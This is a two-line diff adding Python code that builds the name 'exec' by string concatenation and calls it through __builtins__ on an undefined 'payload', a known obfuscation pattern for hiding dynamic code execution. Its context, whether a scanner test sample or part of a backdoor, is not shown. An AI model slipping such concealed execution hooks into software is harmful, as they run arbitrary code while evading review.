@@ -1,0 +1,2 @@
+n = '%s%s' % ('ex', 'ec')
+__builtins__[n](payload)
